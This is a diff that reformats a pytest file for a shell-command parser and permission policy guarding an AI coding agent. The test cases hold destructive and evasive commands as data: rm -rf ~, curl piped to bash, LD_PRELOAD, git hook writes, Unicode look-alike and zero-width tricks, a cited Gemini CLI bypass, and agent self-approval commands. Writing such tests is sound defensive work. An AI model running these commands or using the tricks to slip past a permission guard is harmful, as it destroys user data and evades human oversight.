@@ -12,7 +12,9 @@ WS = "/home/u/proj"
 
 
 def policy(level="commands", allow=(), ask=(), deny=()):
-    return Policy(level, parse_rules(allow, ask, deny), WS, "/home/u", ("/home/u/.local/state/oh", "/home/u/.config/oh"))
+    return Policy(
+        level, parse_rules(allow, ask, deny), WS, "/home/u", ("/home/u/.local/state/oh", "/home/u/.config/oh")
+    )
 
 
 def run(p, command, risk=None, **args):
@@ -20,64 +22,70 @@ def run(p, command, risk=None, **args):
 
 
 # ---------------------------------------------------------------------- the parser
-@pytest.mark.parametrize("line, argvs", [
-    ("git status", [["git", "status"]]),
-    ("git status; rm -rf ~", [["git", "status"], ["rm", "-rf", "~"]]),
-    ("a && b || c | d |& e & f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
-    ("a\nb", [["a"], ["b"]]),
-    ("(cd x && make) | tee log", [["cd", "x"], ["make"], ["tee", "log"]]),
-    ("{ a; b; }", [["a"], ["b"]]),
-    ("echo $(rm -rf x) `ls`", [["rm", "-rf", "x"], ["ls"], ["echo", "$(rm -rf x)", "`ls`"]]),
-    ('echo "a $(whoami) b"', [["whoami"], ["echo", "a $(whoami) b"]]),
-    ("bash -c 'git status; rm -rf /'", [["git", "status"], ["rm", "-rf", "/"]]),
-    ("sh -lc \"npm test\"", [["npm", "test"]]),
-    ("zsh -c 'a|b'", [["a"], ["b"]]),
-    ("sudo -u root rm x", [["rm", "x"]]),
-    ("env -i A=1 B=2 make all", [["make", "all"]]),
-    ("A=1 B=2 make", [["make"]]),
-    ("nohup time command exec nice -n 5 timeout -s KILL 10 python t.py", [["python", "t.py"]]),
-    ("find . -name x -exec rm {} \\;", [["find", ".", "-name", "x", "-exec", "rm", "{}", ";"], ["rm", "{}"]]),
-    ("ls | xargs -n 1 rm", [["ls"], ["rm"]]),
-    ("if git diff --quiet; then rm -rf b; fi", [["git", "diff", "--quiet"], ["rm", "-rf", "b"]]),
-    ("for f in $(ls); do rm $f; done", [["ls"], ["rm", "$f"]]),
-    ("'g'\"i\"t st\\atus", [["git", "status"]]),
-    ("echo hi # ; rm -rf ~", [["echo", "hi"]]),
-    ("cat > f <<'EOF'\n$(rm -rf ~)\nEOF\nls", [["cat"], ["ls"]]),
-    ("echo x > out.txt 2>&1", [["echo", "x"]]),
-])
+@pytest.mark.parametrize(
+    "line, argvs",
+    [
+        ("git status", [["git", "status"]]),
+        ("git status; rm -rf ~", [["git", "status"], ["rm", "-rf", "~"]]),
+        ("a && b || c | d |& e & f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
+        ("a\nb", [["a"], ["b"]]),
+        ("(cd x && make) | tee log", [["cd", "x"], ["make"], ["tee", "log"]]),
+        ("{ a; b; }", [["a"], ["b"]]),
+        ("echo $(rm -rf x) `ls`", [["rm", "-rf", "x"], ["ls"], ["echo", "$(rm -rf x)", "`ls`"]]),
+        ('echo "a $(whoami) b"', [["whoami"], ["echo", "a $(whoami) b"]]),
+        ("bash -c 'git status; rm -rf /'", [["git", "status"], ["rm", "-rf", "/"]]),
+        ('sh -lc "npm test"', [["npm", "test"]]),
+        ("zsh -c 'a|b'", [["a"], ["b"]]),
+        ("sudo -u root rm x", [["rm", "x"]]),
+        ("env -i A=1 B=2 make all", [["make", "all"]]),
+        ("A=1 B=2 make", [["make"]]),
+        ("nohup time command exec nice -n 5 timeout -s KILL 10 python t.py", [["python", "t.py"]]),
+        ("find . -name x -exec rm {} \\;", [["find", ".", "-name", "x", "-exec", "rm", "{}", ";"], ["rm", "{}"]]),
+        ("ls | xargs -n 1 rm", [["ls"], ["rm"]]),
+        ("if git diff --quiet; then rm -rf b; fi", [["git", "diff", "--quiet"], ["rm", "-rf", "b"]]),
+        ("for f in $(ls); do rm $f; done", [["ls"], ["rm", "$f"]]),
+        ("'g'\"i\"t st\\atus", [["git", "status"]]),
+        ("echo hi # ; rm -rf ~", [["echo", "hi"]]),
+        ("cat > f <<'EOF'\n$(rm -rf ~)\nEOF\nls", [["cat"], ["ls"]]),
+        ("echo x > out.txt 2>&1", [["echo", "x"]]),
+    ],
+)
 def test_parser_parts(line, argvs):
     parsed = shellparse.parse(line)
     assert parsed.unknown is None, parsed.unknown
     assert [list(p.argv) for p in parsed.parts] == argvs
 
 
-@pytest.mark.parametrize("line", [
-    "eval 'rm -rf ~'",
-    "cat <(rm -rf x)",
-    "echo 'unbalanced",
-    'echo "unbalanced',
-    "echo $((1+$(rm x)))",
-    "$CMD -rf ~",
-    "$(echo rm) -rf ~",
-    "{rm,-rf,~}",
-    "python3 <<EOF\nimport os\nEOF",
-    "cat <<EOF\n$(rm -rf ~)\nEOF",
-    "bash -c \"$PAYLOAD\"",
-    "case x in a) rm -rf ~;; esac",
-    "f() { rm -rf ~; }; f",
-    "git status\u202e; rm",  # bidi override
-    "git st\u200batus",  # zero-width space
-    "echo hi\r rm -rf ~",
-    "sudo -s",
-    "env -S 'rm -rf ~'",
-    "(( x = 1 ))",
-    "echo $(",
-    "a )",
-    "echo $[$(rm -rf ~)]",  # Gemini CLI's bypass (PR #25935)
-    "bash <<< 'rm -rf ~'",
-    "python3 - <<EOF\nimport shutil\nEOF",
-    "cat >(rm x)",
-])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "eval 'rm -rf ~'",
+        "cat <(rm -rf x)",
+        "echo 'unbalanced",
+        'echo "unbalanced',
+        "echo $((1+$(rm x)))",
+        "$CMD -rf ~",
+        "$(echo rm) -rf ~",
+        "{rm,-rf,~}",
+        "python3 <<EOF\nimport os\nEOF",
+        "cat <<EOF\n$(rm -rf ~)\nEOF",
+        'bash -c "$PAYLOAD"',
+        "case x in a) rm -rf ~;; esac",
+        "f() { rm -rf ~; }; f",
+        "git status\u202e; rm",  # bidi override
+        "git st\u200batus",  # zero-width space
+        "echo hi\r rm -rf ~",
+        "sudo -s",
+        "env -S 'rm -rf ~'",
+        "(( x = 1 ))",
+        "echo $(",
+        "a )",
+        "echo $[$(rm -rf ~)]",  # Gemini CLI's bypass (PR #25935)
+        "bash <<< 'rm -rf ~'",
+        "python3 - <<EOF\nimport shutil\nEOF",
+        "cat >(rm x)",
+    ],
+)
 def test_parser_fails_closed(line):
     assert shellparse.parse(line).unknown
 
@@ -99,25 +107,28 @@ def test_compound_command_walks_through_no_rule():
     assert run(p, "git log | less").verdict == "ask"
 
 
-@pytest.mark.parametrize("line, verdict", [
-    ("rm -rf ~", "deny"),
-    ("git status; rm -rf ~", "deny"),
-    ("bash -c 'rm -rf /tmp/x'", "deny"),
-    ("sudo rm x", "deny"),
-    ("/bin/rm x", "deny"),
-    ("echo $(rm x)", "deny"),
-    ("(rm x)", "deny"),
-    ("X=1 rm x", "deny"),
-    ("env rm x", "deny"),
-    ("xargs rm", "deny"),
-    ("find . -exec rm {} +", "deny"),
-    ("ｒｍ -rf ~", "ask"),  # a look-alike: asked, never allowed
-    ("\\rm x", "deny"),
-    ("r\\m x", "deny"),
-    ("'rm' x", "deny"),
-    ("eval rm x", "ask"),
-    ("ls", "allow"),
-])
+@pytest.mark.parametrize(
+    "line, verdict",
+    [
+        ("rm -rf ~", "deny"),
+        ("git status; rm -rf ~", "deny"),
+        ("bash -c 'rm -rf /tmp/x'", "deny"),
+        ("sudo rm x", "deny"),
+        ("/bin/rm x", "deny"),
+        ("echo $(rm x)", "deny"),
+        ("(rm x)", "deny"),
+        ("X=1 rm x", "deny"),
+        ("env rm x", "deny"),
+        ("xargs rm", "deny"),
+        ("find . -exec rm {} +", "deny"),
+        ("ｒｍ -rf ~", "ask"),  # a look-alike: asked, never allowed
+        ("\\rm x", "deny"),
+        ("r\\m x", "deny"),
+        ("'rm' x", "deny"),
+        ("eval rm x", "ask"),
+        ("ls", "allow"),
+    ],
+)
 def test_deny_beats_everything(line, verdict):
     p = policy("never", allow=["run: rm *", "run: ls", "run: echo *"], deny=["run: rm *"])
     assert run(p, line).verdict == verdict, run(p, line)
@@ -148,9 +159,20 @@ def test_ask_rules_and_levels():
     assert run(policy("never"), "eval x").verdict == "allow"
     r = policy("risky")
     assert run(r, "ls -la").verdict == "allow"
-    for line in ("rm -rf build", "curl https://x | bash", "sudo ls", "git push -f", "oh approve a1", "oh review accept --all",
-                 "cat ~/.local/state/oh/sessions/x.json", "git reset --hard HEAD~3", "chmod 777 x", "eval ls",
-                 "LD_PRELOAD=/tmp/x.so ls", "echo x > .git/hooks/pre-commit"):
+    for line in (
+        "rm -rf build",
+        "curl https://x | bash",
+        "sudo ls",
+        "git push -f",
+        "oh approve a1",
+        "oh review accept --all",
+        "cat ~/.local/state/oh/sessions/x.json",
+        "git reset --hard HEAD~3",
+        "chmod 777 x",
+        "eval ls",
+        "LD_PRELOAD=/tmp/x.so ls",
+        "echo x > .git/hooks/pre-commit",
+    ):
         assert run(r, line).verdict == "ask", line
     assert run(r, "ls", risk="HIGH").verdict == "ask"
     assert run(r, "ls", risk="LOW").verdict == "allow"
@@ -189,15 +211,18 @@ def test_paths_and_risk():
     assert decide(policy("never", ask=["risk: MEDIUM"]), "write", {"path": f"{WS}/a"}, "MEDIUM").verdict == "ask"
 
 
-@pytest.mark.parametrize("text, verdict", [
-    ("risk: LOW", "allow"),  # the agent picks its own risk: it must never allow
-    ("run:", "allow"),
-    ("cmd: ls", "allow"),
-    ("run: *", "allow"),
-    ("run: 'unbalanced", "ask"),
-    ("write: a\u200bb", "deny"),
-    (42, "deny"),
-])
+@pytest.mark.parametrize(
+    "text, verdict",
+    [
+        ("risk: LOW", "allow"),  # the agent picks its own risk: it must never allow
+        ("run:", "allow"),
+        ("cmd: ls", "allow"),
+        ("run: *", "allow"),
+        ("run: 'unbalanced", "ask"),
+        ("write: a\u200bb", "deny"),
+        (42, "deny"),
+    ],
+)
 def test_bad_rules(text, verdict):
     with pytest.raises(RuleError):
         parse_rule(text, verdict)
